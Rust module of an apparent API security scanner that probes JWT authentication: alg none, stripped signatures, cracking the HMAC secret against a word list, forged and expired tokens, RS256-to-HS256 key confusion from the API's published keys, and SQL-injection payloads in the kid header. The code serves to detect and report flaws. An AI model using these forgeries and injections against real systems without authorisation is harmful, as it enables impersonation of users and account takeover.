//! API2 (broken authentication), part two: JWT attacks on an identity's own token, each
//! confirmed on an operation that refuses anonymous callers: `alg: none` in several casings,
//! a stripped signature, an offline dictionary attack on the HMAC secret (confirmed by a
//! forged token), expired-token replay, a refresh token used as an access token, tokens
//! issued without `exp`, RS256→HS256 key confusion with a public key the API publishes (JWKS),
//! and `kid` header injection.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey, Header, Validation};
use reqwest::Method;
use serde_json::{Value, json};

use crate::ctx::{Ctx, jwt_parts};
use crate::finding::{Finding, Severity, rules};
use crate::http::Req;
use crate::model::Op;

const PROBE: &str = "jwt";

/// Secrets tried offline, besides `portcullis_policy::load::COMMON_JWT_SECRETS`.
const EXTRA_WORDS: &[&str] = &[
    "changeit",
    "pass",
    "passw0rd",
    "welcome",
    "hello",
    "token",
    "auth",
    "jwt-key",
    "jwtkey",
    "secret1",
    "secret!",
    "topsecret",
    "privatekey",
    "HS256",
    "your_jwt_secret",
    "my-secret",
    "development",
    "dev",
    "prod",
    "production",
    "abc123",
    "12345678",
    "iloveyou",
    "root",
];

fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or_default()
}

/// An operation where a valid token gets 2xx and no token does not: the oracle.
fn oracle(ctx: &Ctx, who: usize) -> Option<(&Op, Req)> {
    let anon = ctx.anonymous();
    let mut candidates: Vec<&Op> = ctx
        .model
        .ops
        .iter()
        .filter(|o| o.method == Method::GET && o.secured && !o.deprecated && !o.is_admin())
        .filter(|o| ctx.baseline(o, who).is_some_and(|s| s.resp.ok()))
        .filter(|o| {
            ctx.baseline(o, anon)
                .is_some_and(|s| matches!(s.resp.status, 401 | 403))
        })
        .collect();
    candidates.sort_by_key(|o| o.has_path_params());
    let op = candidates.into_iter().next()?;
    let mut req = ctx.baseline(op, who)?.req;
    req.auth = None;
    Some((op, req))
}

fn b64(v: &Value) -> String {
    URL_SAFE_NO_PAD.encode(v.to_string())
}

/// Where APIs publish their token keys, relative to the target.
const JWKS_PATHS: &[&str] = &[
    "/.well-known/jwks.json",
    "/jwks.json",
    "/.well-known/openid-configuration",
];

/// A DER length.
fn der_len(n: usize, out: &mut Vec<u8>) {
    match n {
        0..=0x7f => out.push(n as u8),
        0x80..=0xff => out.extend([0x81, n as u8]),
        _ => out.extend([0x82, (n >> 8) as u8, n as u8]),
    }
}

/// A DER element: tag, length, content.
fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    der_len(content.len(), &mut out);
    out.extend_from_slice(content);
    out
}

/// A DER INTEGER from big-endian unsigned bytes.
fn der_uint(bytes: &[u8]) -> Vec<u8> {
    let trimmed = match bytes.iter().position(|&b| b != 0) {
        Some(i) => &bytes[i..],
        None => &[0u8][..],
    };
    let mut content = Vec::with_capacity(trimmed.len() + 1);
    if trimmed[0] & 0x80 != 0 {
        content.push(0);
    }
    content.extend_from_slice(trimmed);
    der(0x02, &content)
}

/// The PEM text of an RSA public key given as a JWK's `n` and `e` (big-endian bytes): the
/// SubjectPublicKeyInfo form (`BEGIN PUBLIC KEY`) or, with `pkcs1`, the bare RSAPublicKey
/// form (`BEGIN RSA PUBLIC KEY`). Servers that misuse a public key as an HMAC secret use one of
/// these texts byte for byte, so the key confusion probe tries both.
pub fn rsa_public_key_pem(n: &[u8], e: &[u8], pkcs1: bool) -> String {
    let rsa = der(0x30, &[der_uint(n), der_uint(e)].concat());
    let (label, body) = if pkcs1 {
        ("RSA PUBLIC KEY", rsa)
    } else {
        // rsaEncryption (1.2.840.113549.1.1.1) with NULL parameters.
        const ALG: &[u8] = &[
            0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05,
            0x00,
        ];
        let bits = der(0x03, &[&[0u8][..], &rsa].concat());
        ("PUBLIC KEY", der(0x30, &[ALG, &bits].concat()))
    };
    let text = STANDARD.encode(body);
    let mut pem = format!("-----BEGIN {label}-----\n");
    for line in text.as_bytes().chunks(64) {
        pem.push_str(&String::from_utf8_lossy(line));
        pem.push('\n');
    }
    pem.push_str(&format!("-----END {label}-----\n"));
    pem
}

/// The RSA keys (`n`, `e`) the target publishes, from the first key set found.
async fn published_rsa_keys(ctx: &Ctx) -> Vec<(Vec<u8>, Vec<u8>)> {
    for path in JWKS_PATHS {
        let Some(resp) = ctx.send(&Req::new(Method::GET, *path)).await else {
            continue;
        };
        let Some(mut doc) = resp.json().filter(|_| resp.ok()) else {
            continue;
        };
        // An OpenID configuration names the key set; follow it on the target only.
        if let Some(uri) = doc.get("jwks_uri").and_then(Value::as_str)
            && let Ok(url) = url::Url::parse(uri)
        {
            let Some(resp) = ctx.send(&Req::new(Method::GET, url.path())).await else {
                continue;
            };
            match resp.json().filter(|_| resp.ok()) {
                Some(d) => doc = d,
                None => continue,
            }
        }
        let keys: Vec<_> = doc
            .get("keys")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter(|k| k.get("kty").and_then(Value::as_str) == Some("RSA"))
            .filter_map(|k| {
                let n = URL_SAFE_NO_PAD.decode(k.get("n")?.as_str()?).ok()?;
                let e = URL_SAFE_NO_PAD.decode(k.get("e")?.as_str()?).ok()?;
                Some((n, e))
            })
            .take(3)
            .collect();
        if !keys.is_empty() {
            return keys;
        }
    }
    Vec::new()
}

/// `claims` made current: fresh `iat`, `exp` ten minutes ahead, a new `jti`.
fn refreshed(claims: &Value) -> Value {
    let mut fresh = claims.clone();
    fresh["iat"] = json!(now());
    if fresh.get("exp").is_some() {
        fresh["exp"] = json!(now() + 600);
    }
    if fresh.get("jti").is_some() {
        fresh["jti"] = json!(format!("portcullis-forged-{}", super::tag()));
    }
    fresh
}

/// An HS256 token over `claims`, keyed with `secret`, with `kid` in its header.
fn hs256(claims: &Value, secret: &[u8], kid: Option<String>) -> Option<String> {
    let key = EncodingKey::from_secret(secret).ok()?;
    let mut header = Header::new(Algorithm::HS256);
    header.kid = kid;
    jsonwebtoken::encode(&header, claims, &key).ok()
}

pub(crate) async fn run(ctx: &Ctx) {
    let Some(who) = ctx.users().into_iter().find(|&u| {
        ctx.sessions[u]
            .token()
            .is_some_and(|t| jwt_parts(&t).is_some())
    }) else {
        ctx.note("jwt: no identity has a JWT bearer token; JWT probes skipped");
        return;
    };
    let Some(token) = ctx.sessions[who].token() else {
        return;
    };
    let Some((header, claims)) = jwt_parts(&token) else {
        return;
    };
    let Some((op, base)) = oracle(ctx, who) else {
        ctx.note(
            "jwt: no operation answers a valid token 2xx and no token 401; JWT probes skipped",
        );
        return;
    };
    ctx.ran(op, PROBE);
    let key = op.key();
    let try_token = |label: &str, t: String| {
        base.clone()
            .bearer(&format!("forged token ({label})"), &t, "FORGED_TOKEN")
    };
    let parts: Vec<&str> = token.split('.').collect();

    // alg none, several casings.
    for alg in ["none", "None", "NONE", "nOnE"] {
        let mut h = header.clone();
        h["alg"] = json!(alg);
        let req = try_token(
            &format!("alg {alg}"),
            format!("{}.{}.", b64(&h), parts.get(1).unwrap_or(&"")),
        );
        if let Some(resp) = ctx.send(&req).await
            && resp.ok()
        {
            ctx.report(
                Finding::new(rules::JWT_ALG_NONE, Severity::Critical, &key, "")
                    .detail(format!("A copy of {}'s token re-labelled `alg: {alg}` with no signature was accepted ({}).", ctx.sessions[who].name, resp.status))
                    .evidence(ctx.http.exchange(&req, Some(&resp)))
                    .reproduce(ctx.http.curl(&req)),
            );
            break;
        }
    }

    // Signature stripped, algorithm kept.
    if parts.len() == 3 {
        let req = try_token("signature stripped", format!("{}.{}.", parts[0], parts[1]));
        if let Some(resp) = ctx.send(&req).await
            && resp.ok()
        {
            ctx.report(
                Finding::new(rules::JWT_NO_SIGNATURE, Severity::Critical, &key, "")
                    .detail("The token with its signature removed was accepted.")
                    .evidence(ctx.http.exchange(&req, Some(&resp)))
                    .reproduce(ctx.http.curl(&req)),
            );
        }
    }

    // Offline dictionary attack on the HMAC secret.
    let alg = header.get("alg").and_then(Value::as_str).unwrap_or("");
    let alg = match alg {
        "HS256" => Some(Algorithm::HS256),
        "HS384" => Some(Algorithm::HS384),
        "HS512" => Some(Algorithm::HS512),
        _ => None,
    };
    let mut cracked = None;
    if let Some(alg) = alg {
        let mut validation = Validation::new(alg);
        validation.validate_exp = false;
        validation.validate_aud = false;
        validation.required_spec_claims.clear();
        let words = portcullis_policy::load::COMMON_JWT_SECRETS
            .iter()
            .chain(EXTRA_WORDS);
        for (i, w) in words.enumerate() {
            let Ok(k) = DecodingKey::from_secret(w.as_bytes()) else {
                continue;
            };
            if jsonwebtoken::decode::<Value>(&token, &k, &validation).is_ok() {
                cracked = Some((i + 1, *w, alg));
                break;
            }
        }
    }
    if let Some((rank, word, alg)) = cracked {
        ctx.http.add_secret(word);
        let forge = |c: &Value| -> Option<String> {
            let k = EncodingKey::from_secret(word.as_bytes()).ok()?;
            jsonwebtoken::encode(&Header::new(alg), c, &k).ok()
        };
        let fresh = refreshed(&claims);
        let mut finding = Finding::new(rules::JWT_WEAK_SECRET, Severity::Critical, &key, "").detail(format!(
            "The token's {alg:?} secret was found offline: it is word #{rank} of the bundled word list ({} characters; not shown).",
            word.len()
        ));
        if let Some(t) = forge(&fresh) {
            let req = try_token("signed with the cracked secret", t);
            if let Some(resp) = ctx.send(&req).await {
                let accepted = resp.ok();
                finding = finding
                    .evidence(ctx.http.exchange(&req, Some(&resp)))
                    .reproduce(ctx.http.curl(&req));
                if accepted {
                    finding.detail.push_str(
                        " A token minted with it was accepted: anyone can impersonate any user.",
                    );
                }
            }
        }
        ctx.report(finding);
        // Expired-token replay: the secret lets us mint an expired copy.
        let mut stale = claims.clone();
        stale["iat"] = json!(now() - 7200);
        stale["exp"] = json!(now() - 3600);
        if let Some(t) = forge(&stale) {
            let req = try_token("expired an hour ago", t);
            if let Some(resp) = ctx.send(&req).await
                && resp.ok()
            {
                ctx.report(
                    Finding::new(rules::JWT_EXPIRED, Severity::High, &key, "")
                        .detail("A correctly signed token that expired an hour ago was accepted.")
                        .evidence(ctx.http.exchange(&req, Some(&resp)))
                        .reproduce(ctx.http.curl(&req)),
                );
            }
        }
    }

    // A control for the two checks below: an HS256 token signed with a key the scan makes up.
    // Accepted, the API checks no HS256 signature at all: that is the finding, and a token
    // keyed with a public key or a `kid`'s choice proves nothing more (each was reported
    // with the wrong cause).
    let kid = header.get("kid").and_then(Value::as_str).map(str::to_owned);
    let made_up = format!("portcullis-made-up-key-{}", super::tag());
    let mut unchecked = false;
    if let Some(t) = hs256(&refreshed(&claims), made_up.as_bytes(), kid)
        && let req = try_token("HS256 signed with a made-up key", t)
        && let Some(resp) = ctx.send(&req).await
        && resp.ok()
    {
        ctx.report(
            Finding::new(rules::JWT_ANY_KEY, Severity::Critical, &key, "")
                .detail("An HS256 token signed with a key the scan made up was accepted: the signature is not checked against the server's key.")
                .evidence(ctx.http.exchange(&req, Some(&resp)))
                .reproduce(ctx.http.curl(&req)),
        );
        unchecked = true;
    }

    if !unchecked {
        // RS256 -> HS256 confusion: the published public key, as PEM text, used as an HMAC secret.
        let keys = published_rsa_keys(ctx).await;
        'confusion: for (n, e) in &keys {
            for (pkcs1, trailing_newline) in
                [(false, true), (false, false), (true, true), (true, false)]
            {
                let mut pem = rsa_public_key_pem(n, e, pkcs1);
                if !trailing_newline {
                    pem.pop();
                }
                let kid = header.get("kid").and_then(Value::as_str).map(str::to_owned);
                let Some(t) = hs256(&refreshed(&claims), pem.as_bytes(), kid) else {
                    continue;
                };
                let req = try_token("HS256 keyed with the published RSA public key", t);
                if let Some(resp) = ctx.send(&req).await
                    && resp.ok()
                {
                    ctx.report(
                    Finding::new(rules::JWT_KEY_CONFUSION, Severity::Critical, &key, "")
                        .detail(format!(
                            "The API publishes its RSA public key (JWKS). An HS256 token whose HMAC secret is that key's {} PEM text{} was accepted: anyone can mint tokens.",
                            if pkcs1 { "PKCS#1" } else { "SubjectPublicKeyInfo" },
                            if trailing_newline { "" } else { " (no final newline)" },
                        ))
                        .evidence(ctx.http.exchange(&req, Some(&resp)))
                        .reproduce(ctx.http.curl(&req)),
                );
                    break 'confusion;
                }
            }
        }

        // `kid` injection: a key id that, spliced into the key lookup's SQL, selects a key we choose.
        let chosen = format!("portcullis-kid-{}", super::tag());
        for kid in [
            format!("portcullis-none' UNION SELECT '{chosen}' -- "),
            format!("portcullis-none\" UNION SELECT \"{chosen}\" -- "),
        ] {
            let Some(t) = hs256(&refreshed(&claims), chosen.as_bytes(), Some(kid.clone())) else {
                continue;
            };
            let req = try_token("kid injection", t);
            if let Some(resp) = ctx.send(&req).await
                && resp.ok()
            {
                ctx.report(
                Finding::new(rules::JWT_KID_INJECTION, Severity::Critical, &key, "")
                    .detail(format!(
                        "A token whose `kid` header is `{kid}` and which is signed with the key that kid selects was accepted: the key lookup runs the header as SQL."
                    ))
                    .evidence(ctx.http.exchange(&req, Some(&resp)))
                    .reproduce(ctx.http.curl(&req)),
            );
                break;
            }
        }
    }

    if claims.get("exp").is_none() {
        let mut req = base.clone();
        req = ctx.as_who(req, who);
        if let Some(resp) = ctx.send(&req).await
            && resp.ok()
        {
            ctx.report(
                Finding::new(rules::JWT_NO_EXPIRY, Severity::Medium, &key, "")
                    .detail(format!(
                        "{}'s token has no `exp` claim and is accepted: it never expires.",
                        ctx.sessions[who].name
                    ))
                    .evidence(ctx.http.exchange(&req, Some(&resp)))
                    .reproduce(ctx.http.curl(&req)),
            );
        }
    }

    // A refresh token presented as an access token.
    let refresh = ctx.sessions[who]
        .refresh
        .read()
        .ok()
        .and_then(|r| r.clone());
    if let Some(rt) = refresh {
        let req = base
            .clone()
            .bearer("refresh token as access token", &rt, "REFRESH_TOKEN");
        if let Some(resp) = ctx.send(&req).await
            && resp.ok()
        {
            ctx.report(
                Finding::new(rules::JWT_REFRESH_AS_ACCESS, Severity::High, &key, "")
                    .detail(format!("{}'s refresh token was accepted as an access token: a long-lived token opens the API.", ctx.sessions[who].name))
                    .evidence(ctx.http.exchange(&req, Some(&resp)))
                    .reproduce(ctx.http.curl(&req)),
            );
        }
    }
}
